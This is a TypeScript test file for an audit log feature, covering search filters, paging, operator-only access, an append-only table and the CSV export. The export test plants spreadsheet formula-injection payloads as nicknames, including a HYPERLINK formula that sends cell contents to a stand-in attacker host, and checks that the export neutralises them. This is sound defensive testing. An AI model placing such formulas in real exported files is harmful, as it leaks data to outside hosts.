import { type AuditAction, calls, type InputOf, minute, toWireTime } from '@polyphony/contract'
import { sql } from 'kysely'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import type { Player } from '../../../../seed/player.ts'
import { recordAudit } from '../../ground/kernel/audit.ts'
import { startTestServer, type TestServer } from '../../testing/server.ts'

const { getAuditList, exportAudit } = calls.ops

let server: TestServer
let olga: Player
const ids = new Map<string, string>()
beforeAll(async () => {
  server = await startTestServer()
  olga = await server.as('olga')
  const rows = await server.app.db.selectFrom('account').select(['account_id', 'username']).execute()
  for (const row of rows) ids.set(row.username, row.account_id)
})
afterAll(() => server.close())

const note = (
  action: AuditAction,
  actor: string | null,
  subject: string | undefined,
  more: { ip?: string; at?: Date; params?: Record<string, string> } = {},
) => {
  const { app } = server
  const scribe = { tx: app.db, newId: app.newId, now: () => more.at ?? app.now() }
  const actor_id = actor === null ? null : ids.get(actor)!
  const { ip, params } = more
  return recordAudit(scribe, { action, actor_id, subject_id: subject && ids.get(subject), ip, params })
}
const find = async (filter: InputOf<typeof getAuditList>) => {
  const { list, total } = await olga.call(getAuditList, { pageSize: 100, ...filter })
  expect(list).toHaveLength(total)
  return list
}

describe('searching the audit log', () => {
  it('filters by actor, subject, action, address and time', async () => {
    await note('levelChanged', 'kato', 'wang', { ip: '203.0.113.7' })
    await note('accountLocked', 'kato', 'mori', { ip: '203.0.113.8', at: new Date('2026-01-05T10:00:00Z') })
    await note('memberRemoved', 'clara', 'mori', { ip: '203.0.113.8' })
    const actions = async (filter: InputOf<typeof getAuditList>) => (await find(filter)).map((entry) => entry.action)
    expect(await actions({ actor: '加藤' })).toEqual(['levelChanged', 'accountLocked'])
    expect(await actions({ actor: ids.get('kato')!, subject: 'mori' })).toEqual(['accountLocked'])
    expect(await actions({ subject: '森 健' })).toEqual(['memberRemoved', 'accountLocked'])
    expect(await actions({ actions: ['accountLocked', 'levelChanged'], actor: 'kato' })).toHaveLength(2)
    expect(await actions({ ip: '203.0.113.8' })).toEqual(['memberRemoved', 'accountLocked'])
    const january = {
      since: toWireTime(new Date('2026-01-01T00:00:00Z')),
      until: toWireTime(new Date('2026-02-01T00:00:00Z')),
    }
    expect(await actions(january)).toEqual(['accountLocked'])
    expect(await actions({ actor: 'nobody at all' })).toEqual([])
  })

  it('finds everything that concerns one account, as actor or as subject', async () => {
    const entries = await find({ account_id: ids.get('wang')! })
    expect(entries[0]).toMatchObject({
      action: 'levelChanged',
      actor: { nickname: '加藤 直子' },
      subject_name: '王磊',
      is_subject_account: true,
    })
  })

  it('shows names of companies, and the system where there is no actor', async () => {
    const { company_id } = await server.app.db
      .selectFrom('company')
      .select('company_id')
      .where('name', '=', 'Northlight Films')
      .executeTakeFirstOrThrow()
    ids.set('company', company_id)
    await note('companyChanged', null, 'company')
    const [entry] = await find({ subject: 'northlight' })
    expect(entry).toMatchObject({ actor: null, subject_name: 'Northlight Films', is_subject_account: false })
  })

  it('pages newest first and lists every entry once', async () => {
    for (let n = 0; n < 25; n++) await note('signOut', 'tom', undefined, { at: new Date(Date.now() - n * minute) })
    const pages = await Promise.all(
      [0, 1, 2].map((pageIndex) => olga.call(getAuditList, { actor: 'tom', actions: ['signOut'], pageIndex })),
    )
    const list = pages.flatMap((page) => page.list)
    expect(pages[0]!.total).toBe(25)
    expect(new Set(list.map((entry) => entry.audit_id)).size).toBe(25)
    expect(list.map((entry) => entry.created_at)).toEqual(
      list
        .map((entry) => entry.created_at)
        .sort()
        .toReversed(),
    )
  })

  it('is only for operators', async () => {
    const clara = await server.as('clara')
    expect((await clara.ask(getAuditList, {})).err_msg).toBe('NO_PERMISSION')
    expect((await clara.ask(exportAudit, {})).err_msg).toBe('NO_PERMISSION')
  })
})

describe('the export (attack 17)', () => {
  const attacks = ['=HYPERLINK("http://evil.example/?"&A1,"x")', '+1+1', '-2+3', '@SUM(1)', '\t=1', '＝1+1']

  it('holds what the list shows and no cell that a spreadsheet would execute', async () => {
    for (const [index, nickname] of attacks.entries()) {
      const { account_id } = await server.make.person({ username: `evil${index}`, nickname })
      ids.set(`evil${index}`, account_id)
      await note('accountLocked', 'olga', `evil${index}`, { ip: nickname })
    }
    const { content, name, mime } = await olga.call(exportAudit, { actions: ['accountLocked'], actor: 'olga' })
    expect(name).toMatch(/^audit-\d{4}-\d\d-\d\d\.csv$/)
    expect(mime).toContain('text/csv')
    const rows = content.trimEnd().split('\r\n')
    expect(rows[0]).toBe('\uFEFFtime,action,actor_id,actor,subject_id,subject,ip,params')
    expect(rows).toHaveLength(1 + attacks.length)
    for (const row of rows.slice(1)) expect(row).not.toMatch(/(?:^|,)"?[\s]*[=+\-@\t＝]/)
    for (const attack of attacks) expect(content).toContain(`'${attack}`.replaceAll('"', '""'))
  })

  it('is recorded itself', async () => {
    const [entry] = await find({ actions: ['auditExported'] })
    expect(entry).toMatchObject({ actor: { account_id: olga.account_id }, params: { count: attacks.length } })
  })
})

describe('the log', () => {
  it('only grows', async () => {
    const { db } = server.app
    await expect(sql`update audit_log set ip = ''`.execute(db)).rejects.toThrow('never changed')
    await expect(sql`delete from audit_log`.execute(db)).rejects.toThrow('never changed')
  })
  it('has an index for each filter', async () => {
    const filters = ["ip = '1'", `actor_id = '${crypto.randomUUID()}'`, "action = 'signIn'", 'created_at > now()']
    await server.app.db.transaction().execute(async (tx) => {
      await sql`set local enable_seqscan = off`.execute(tx)
      for (const filter of filters) {
        const { rows } = await sql<{ 'QUERY PLAN': string }>`
          explain select 1 from audit_log where ${sql.raw(filter)} order by created_at desc limit 10`.execute(tx)
        expect(rows.map((row) => row['QUERY PLAN']).join('\n'), filter).toMatch(/Index (Only )?Scan/)
      }
    })
  })
})
